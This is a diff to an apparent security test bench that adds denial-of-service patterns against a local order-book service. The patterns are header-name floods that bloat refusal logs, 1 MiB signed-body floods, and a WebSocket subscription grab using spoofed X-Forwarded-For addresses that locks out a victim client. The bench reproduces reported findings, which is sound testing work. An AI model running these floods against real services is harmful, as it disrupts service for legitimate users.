@@ -38,6 +38,23 @@
  *             POLY_* headers, on UNSIGNED_CONNECTIONS (2) keep-alive connections, each request sent as soon
  *             as its connection's previous one was answered, up to the order-book cap (500/s); a connection
  *             the service closes is reopened for the next request.
+ *   refusal-log
+ *             issue 39, finding 1: free API keys for REFUSAL_WALLETS wallets (one L1 request each), then 401s
+ *             naming those wallets in POLY_ADDRESS, each carrying REFUSAL_NAMES made-up header names of
+ *             REFUSAL_NAME_CHARS characters, different in every request (what a refusal log that kept them as
+ *             sent grew by, 15 KB a refusal), one request per connection at the order-book cap (500/s)
+ *   hmac-bodies, valid-bodies
+ *             issue 39, finding 2: a free key of its own sends DELETE /orders with a 1 MiB body on
+ *             BODY_CONNECTIONS (4) keep-alive connections, each request as soon as its connection's previous
+ *             one was answered, up to the order-book cap: hmac-bodies with a wrong HMAC (right passphrase),
+ *             valid-bodies with a valid one (each such request answered 400: the body is no list of ids)
+ *   sub-grab  issue 39, finding 7: GRAB_ADDRESSES (27) addresses, each of its own /24 (10.7.<n>.1, whatever
+ *             --xff says), open GRAB_SOCKETS (100, the per-address socket cap) /ws/market sockets each and
+ *             subscribe each to every token of the service without dumps, all at once; then, with all of it
+ *             held, a client from an address of another network (10.8.0.1) asks for what one of those sockets
+ *             asked for (every token, at most 500), and the
+ *             attack counts `victim-subscribed` or `victim-refused` (the finding: others were told "too many
+ *             subscriptions" once 27 addresses held all 200,000)
  * With --xff, every request carries X-Forwarded-For (the service must trust 127.0.0.1 as a proxy), so the
  * attacker is one client of its own and not the bench's well-behaved one; the WebSocket patterns set it on
  * the upgrade request, which the service keys its socket caps and connect limit by.
@@ -72,7 +89,7 @@
  * address). An attacker that falls behind its schedule, for want of CPU or because the service answers
  * slowly, sends less than it planned. `bytesIn` is the payload bytes of the frames its WebSockets received.
  */
-import { randomBytes } from 'node:crypto';
+import { createHmac, randomBytes } from 'node:crypto';
 import net from 'node:net';
 import { pathToFileURL } from 'node:url';
 import { parseArgs } from 'node:util';
@@ -122,6 +139,13 @@ const USER_CYCLES_PER_S = 10;
 const UNSIGNED_RATE = 500;
 const UNSIGNED_CONNECTIONS = 2;
 const UNSIGNED_BODY_BYTES = 1 << 20;
+const REFUSAL_WALLETS = 50;
+const REFUSAL_NAMES = 38;
+const REFUSAL_NAME_CHARS = 390;
+const BODY_CONNECTIONS = 4;
+const BODY_BYTES = 1 << 20;
+const GRAB_ADDRESSES = 27;
+const GRAB_SOCKETS = 100;
 
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
 const bump = (tally: Tally, outcome: string | number) => void (tally.statuses[outcome] = (tally.statuses[outcome] ?? 0) + 1);
@@ -626,11 +650,125 @@ export async function attack(o: AttackOptions): Promise<AttackResult> {
       for (const c of connections) c.close();
       break;
     }
+    case 'refusal-log':
+      await refusalLog(url, o.xff, go, tally);
+      break;
+    case 'hmac-bodies':
+    case 'valid-bodies':
+      await bodyFlood(url, o.xff, o.pattern === 'valid-bodies', go, tally);
+      break;
+    case 'sub-grab':
+      await subscriptionGrab(url, go, tally);
+      break;
     default:
       throw new Error(`unknown pattern ${o.pattern}`);
   }
   const cpu = process.cpuUsage(cpu0);
   return { pattern: o.pattern, ...tally, cpuS: (cpu.user + cpu.system) / 1e6 };
+}
+
+// ---- issue 39's patterns ---------------------------------------------------------------------------------
+
+/** refusal-log (see the header): the wallets' keys first, then the refusals, each a connection of its own. */
+async function refusalLog(url: URL, xff: string | undefined, go: () => number, tally: Tally): Promise<void> {
+  const xffHeader: Record<string, string> = xff === undefined ? {} : { 'x-forwarded-for': xff };
+  const wallets: string[] = [];
+  for (let i = 0; i < REFUSAL_WALLETS; i++) {
+    const account = privateKeyToAccount(`0x${'ac'.repeat(16)}${(i + 1).toString(16).padStart(32, '0')}`);
+    await apiKey(url.origin, account, 0n, xffHeader);
+    wallets.push(account.address);
+  }
+  // Every name differs from every other (a counter before one random tail), so the service cannot share them.
+  const tail = Buffer.from(`${randomBytes(REFUSAL_NAME_CHARS).toString('hex').slice(0, REFUSAL_NAME_CHARS - 14)}: 1\r\n`);
+  const xffLine = xff === undefined ? '' : `X-Forwarded-For: ${xff}\r\n`;
+  let n = 0;
+  const request = (): Buffer => {
+    const parts = [Buffer.from(`POST /order HTTP/1.1\r\nHost: x\r\n${xffLine}POLY_ADDRESS: ${wallets[n % wallets.length]}\r\n`)];
+    for (let i = 0; i < REFUSAL_NAMES; i++) parts.push(Buffer.from(`x-${(n * REFUSAL_NAMES + i).toString(36).padStart(10, '0')}-`), tail);
+    parts.push(Buffer.from('Content-Length: 2\r\nConnection: close\r\n\r\n{}'));
+    n++;
+    return Buffer.concat(parts);
+  };
+  await paced(500, 32, go(), () => raw(url, request()), tally);
+}
+
+/**
+ * hmac-bodies and valid-bodies (see the header): one free key's DELETE /orders with 1 MiB bodies. The signature
+ * is made once a second (its timestamp's), so the attacker's own CPU stays small: a flood, not a hashing bench.
+ */
+async function bodyFlood(url: URL, xff: string | undefined, valid: boolean, go: () => number, tally: Tally): Promise<void> {
+  const xffHeader: Record<string, string> = xff === undefined ? {} : { 'x-forwarded-for': xff };
+  const account = privateKeyToAccount(`0x${'ab'.repeat(31)}${valid ? '04' : '03'}`);
+  const creds = await apiKey(url.origin, account, 0n, xffHeader);
+  const key = valid ? Buffer.from(creds.secret.replace(/-/g, '+').replace(/_/g, '/'), 'base64') : Buffer.alloc(32, 0x66);
+  const body = Buffer.from(`{"pad":"${'a'.repeat(BODY_BYTES - 10)}"}`);
+  const xffLine = xff === undefined ? '' : `X-Forwarded-For: ${xff}\r\n`;
+  let second = -1;
+  let request = Buffer.alloc(0);
+  const signed = (): Buffer => {
+    const now = Math.floor(Date.now() / 1000);
+    if (now !== second) {
+      second = now;
+      const sig = createHmac('sha256', key).update(`${now}DELETE/orders`).update(body).digest('hex');
+      const head = `DELETE /orders HTTP/1.1\r\nHost: x\r\n${xffLine}POLY_ADDRESS: ${account.address}\r\nPOLY_API_KEY: ${creds.apiKey}\r\nPOLY_PASSPHRASE: ${creds.passphrase}\r\nPOLY_TIMESTAMP: ${now}\r\nPOLY_SIGNATURE: ${sig}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
+      request = Buffer.concat([Buffer.from(head), body]);
+    }
+    return request;
+  };
+  const connections = Array.from({ length: BODY_CONNECTIONS }, () => new KeepAlive(url));
+  await paced(500, BODY_CONNECTIONS, go(), () => connections.find((c) => !c.busy)!.request(signed()), tally);
+  for (const c of connections) c.close();
+}
+
+/** sub-grab (see the header): counts upgrades and frames as the WebSocket patterns do, and the victim's outcome. */
+async function subscriptionGrab(url: URL, go: () => number, tally: Tally): Promise<void> {
+  const wsUrl = `ws://${url.host}/ws/market`;
+  const tokens = await tokenIds(url.origin, {});
+  if (tokens.length === 0) throw new Error('sub-grab: the service lists no token');
+  const lists = chunkIds(tokens.slice(0, 500)).map((ids, i) => JSON.stringify(i === 0 ? { type: 'market', assets_ids: ids, initial_dump: false } : { operation: 'subscribe', assets_ids: ids, initial_dump: false }));
+  tally.bytesIn = 0;
+  const until = go();
+  const held: Sock[] = [];
+  await Promise.all(
+    Array.from({ length: GRAB_ADDRESSES }, async (_, a) => {
+      const address = `10.7.${a}.1`;
+      tally.planned += GRAB_SOCKETS;
+      await Promise.all(
+        Array.from({ length: GRAB_SOCKETS }, async () => {
+          tally.sent++;
+          const r = await openSocket(wsUrl, address, tally);
+          bump(tally, r.outcome);
+          if (r.sock === undefined) return;
+          held.push(r.sock);
+          for (const m of lists) r.sock.ws.send(m);
+        }),
+      );
+    }),
+  );
+  // Everything asked for is held (or refused): now someone else subscribes.
+  await sleep(500);
+  tally.planned++;
+  tally.sent++;
+  const victim = await openSocket(wsUrl, '10.8.0.1', { sent: 0, planned: 0, statuses: {} });
+  if (victim.sock === undefined) bump(tally, 'victim-refused');
+  else {
+    const answered = new Promise<string>((resolve) => {
+      victim.sock!.ws.on('message', (data: Buffer) => {
+        const text = data.toString();
+        if (text === 'PONG') resolve('victim-subscribed');
+        else if (/"event_type":"error"/.test(text)) resolve('victim-refused');
+      });
+    });
+    // As much as one socket of the attack asks for: a smaller request could fit in the gap a refused message
+    // leaves below the global cap, and pass where the cap is all taken.
+    for (const m of lists) victim.sock.ws.send(m);
+    victim.sock.ws.send('PING');
+    bump(tally, await Promise.race([answered, sleep(10_000).then(() => 'victim-refused')]));
+    await closeOwn(victim.sock);
+  }
+  const left = until - Date.now();
+  if (left > 0) await sleep(left);
+  await Promise.all(held.map((sock) => closeOwn(sock)));
 }
 
 async function main(): Promise<void> {
